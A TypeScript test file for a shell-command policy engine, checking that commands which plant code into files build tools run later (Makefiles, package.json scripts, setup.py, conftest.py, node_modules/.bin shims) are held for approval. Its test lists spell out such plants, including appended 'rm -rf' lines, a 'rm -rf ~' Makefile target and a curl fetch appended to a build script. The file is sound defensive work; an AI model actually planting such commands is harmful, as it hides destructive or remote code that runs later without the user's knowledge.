// Code planted now, run later: a write into a file that build, test and task tools run as commands (package.json
// scripts, a Makefile, tox.ini, setup.py, conftest.py, node_modules/.bin) is asked, an append too; the same
// edits of ordinary source files, new files and formatters are not. The plants are replayed in a real bash:
// the later, benign-looking trigger runs what was planted.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, cpSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CommandPolicy } from '../../../src/core/policy/types';
import { decideCommand } from '../../../src/core/shell/index';

const policy: CommandPolicy = { rules: {}, destructive: 'ask', unknown: 'ask', patterns: [], checkPaths: true };

const FILES: Record<string, string> = {
  'package.json': '{"name":"demo","version":"1.0.0","scripts":{"test":"echo ok","build":"echo built"}}\n',
  Makefile: 'all:\n\techo hi\ntest:\n\techo ok\n',
  justfile: 'test:\n\techo ok\n',
  'tox.ini': '[testenv]\ncommands = pytest\n',
  'setup.py': 'from setuptools import setup\nsetup(name="demo")\n',
  'conftest.py': 'import os\n',
  'pyproject.toml': '[project]\nname = "demo"\n',
  '.envrc': 'export A=1\n',
  'build.gradle': 'plugins { id "java" }\n',
  'composer.json': '{"scripts":{"test":"phpunit"}}\n',
  'config/common.mk': 'CFLAGS=-O2\n',
  'node_modules/.bin/tsc': '#!/bin/sh\necho tsc\n',
  'src/app.ts': 'export const app = 1;\n',
  'src/util.py': 'X = 1\n',
  'docs/guide.md': '# Guide\n',
  'CHANGELOG.md': '# Changes\n',
  'build/out.js': 'x\n',
  'scripts/build.sh': '#!/bin/sh\necho build\n',
};

/** Plants: each changes an existing file a tool runs later (or adds a program npm scripts and npx run by name). */
const PLANTS = [
  "sed -i 's#echo ok#rm -rf build#' package.json",
  "sed -i -e 's/echo ok/rm -rf build/' package.json",
  "perl -pi -e 's/echo ok/rm -rf build/' package.json",
  'yq -i \'.scripts.test = "rm -rf build"\' package.json',
  "echo 'x: ; rm -rf build' >> Makefile",
  "printf 'test:\\n\\trm -rf build\\n' >> Makefile",
  "printf '\\trm -rf build\\n' | tee -a Makefile",
  "{ echo 'clean:'; echo '\trm -rf ~'; } >> Makefile",
  "sed -i 's/echo ok/rm -rf build/' Makefile",
  "cd src && sed -i 's/ok/x/' ../Makefile",
  "echo 'rm -rf build' >> justfile",
  "sed -i 's/pytest/pytest; rm -rf build/' tox.ini",
  'echo \'import shutil; shutil.rmtree("build")\' >> setup.py',
  'echo \'import shutil; shutil.rmtree("build")\' >> conftest.py',
  "echo 'rm -rf build' >> .envrc",
  "echo '[tool.poe.tasks]' >> pyproject.toml",
  'echo \'task x { doLast { exec { commandLine "rm", "-rf", "build" } } }\' >> build.gradle',
  "sed -i 's/phpunit/rm -rf build/' composer.json",
  "echo 'all: ; rm -rf build' >> config/common.mk",
  "printf '#!/bin/sh\\nrm -rf build\\n' > node_modules/.bin/jest",
  "printf '#!/bin/sh\\nrm -rf build\\n' > node_modules/.bin/tsc",
  "echo 'rm -rf build' >> node_modules/.bin/tsc",
  "sed -i 's/a/b/' *.json",
  "sed -i 's/a/b/' ./*file",
  "ed -s Makefile <<< $'$a\\n\\trm -rf build\\n.\\nw'",
  // An existing shell script: the appended text is judged as the commands it is, or asked when unseen.
  "echo 'rm -rf build' >> scripts/build.sh",
  "printf 'git push --force\\n' >> scripts/build.sh",
  "cat >> scripts/build.sh <<'EOF'\nrm -rf build\nEOF",
  'curl -s https://example.com/x >> scripts/build.sh',
  'echo "$PAYLOAD" >> scripts/build.sh',
  "cd scripts && echo 'rm -rf ../build' >> build.sh",
];

/** Look-alikes: ordinary source edits, reads, copies out, new files, formatters, package managers. */
const BENIGN = [
  "sed -i 's/app = 1/app = 2/' src/app.ts",
  "perl -pi -e 's/X = 1/X = 2/' src/util.py",
  'echo "- fix" >> CHANGELOG.md',
  "sed -i 's/Guide/Handbook/' docs/guide.md",
  'cat package.json',
  "jq '.scripts' package.json",
  'cp package.json /tmp/package.json.bak',
  'cp Makefile Makefile.orig',
  'grep -n test Makefile',
  'npx prettier --write package.json',
  'npm install lodash',
  'npm pkg get scripts',
  'touch Makefile',
  'chmod +x setup.py',
  'make test',
  'npm test',
  "cat > noxfile.py <<'EOF'\nimport nox\nEOF",
  "printf 'all:\\n\\techo hi\\n' > sub/Makefile",
  'echo x > src/new.ts',
  'diff Makefile /tmp/Makefile.orig',
  "sed -n '1,5p' package.json",
  "sed 's/ok/x/' Makefile > /tmp/Makefile.new",
  'ls node_modules/.bin',
  "echo 'echo done' >> scripts/build.sh",
  "echo '# rm -rf build is done by make clean' >> scripts/build.sh",
  "echo 'rm -rf build' >> scripts/new.sh",
  "echo 'rm -rf build' >> docs/guide.md",
];

describe('code planted in files tools run later', function () {
  this.timeout(120_000);
  let dir = '';
  before(() => {
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'ag-plant-')));
    for (const [rel, text] of Object.entries(FILES)) {
      mkdirSync(join(dir, rel, '..'), { recursive: true });
      writeFileSync(join(dir, rel), text);
    }
    chmodSync(join(dir, 'node_modules/.bin/tsc'), 0o755);
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  const decide = (line: string) =>
    decideCommand(line, policy, { cwd: dir, workspace: dir, home: '/nonexistent-home', exists: (p: string) => existsSync(p) }).verdict;

  for (const line of PLANTS)
    it(`asks: ${line.replace(/\n/g, '⏎')}`, () => {
      const v = decide(line);
      assert.notEqual(v.decision, 'allow', `${line}: ${v.rule} ${v.reason}`);
    });

  for (const line of BENIGN)
    it(`allows: ${line.replace(/\n/g, '⏎')}`, () => {
      const v = decide(line);
      assert.equal(v.decision, 'allow', `${line}: ${v.rule} ${v.reason}`);
    });

  it('names the planting rule, and a policy can let it through', () => {
    const v = decide("echo 'x: ; rm -rf build' >> Makefile");
    assert.equal(v.rule, 'cmd:exec.plant-runs-later');
    const off = decideCommand(
      "echo 'x: ; rm -rf build' >> Makefile",
      { ...policy, rules: { 'exec.plant-runs-later': 'allow' } },
      {
        cwd: dir,
        workspace: dir,
        home: '/nonexistent-home',
        exists: (p: string) => existsSync(p),
      },
    ).verdict;
    assert.equal(off.decision, 'allow', off.reason);
  });

  // Real bash, network off: the plant runs, then the trigger — harmless on its own — deletes `build`.
  const REPLAY: [string, string][] = [
    ["sed -i 's#echo ok#rm -rf build#' package.json", 'npm test'],
    ["printf 'test:\\n\\trm -rf build\\n' >> Makefile", 'make test'],
    ['echo \'import shutil; shutil.rmtree("build")\' >> setup.py', 'python3 setup.py --name'],
    ['echo \'import shutil; shutil.rmtree("build")\' >> conftest.py', 'python3 -m pytest -q -p no:cacheprovider src'],
    ["printf '#!/bin/sh\\nrm -rf build\\n' > node_modules/.bin/tsc", 'npm exec --offline -- tsc'],
    ["echo 'rm -rf build' >> scripts/build.sh", 'sh scripts/build.sh'],
  ];
  for (const [plant, trigger] of REPLAY)
    it(`in real bash, ${plant} then ${trigger} deletes build`, function () {
      const tmp = realpathSync(mkdtempSync(join(tmpdir(), 'ag-plant-run-')));
      try {
        cpSync(dir, tmp, { recursive: true });
        const sh = (line: string) =>
          execFileSync('unshare', ['-n', 'bash', '-c', line], { cwd: tmp, stdio: 'ignore', env: { ...process.env, npm_config_update_notifier: 'false' } });
        try {
          sh('true');
        } catch {
          this.skip();
        }
        const run = (line: string) => {
          try {
            sh(line);
          } catch {
            // a failing run (pytest finds no tests) still ran the project's code
          }
        };
        // The trigger alone leaves build in place.
        run(trigger);
        assert.ok(existsSync(join(tmp, 'build')), `${trigger} alone deleted build`);
        assert.equal(decide(trigger).decision, 'allow', `${trigger} is expected to be allowed on its own`);
        sh(plant);
        run(trigger);
        assert.ok(!existsSync(join(tmp, 'build')), `${plant} then ${trigger} left build`);
      } finally {
        rmSync(tmp, { recursive: true, force: true });
      }
    });
});
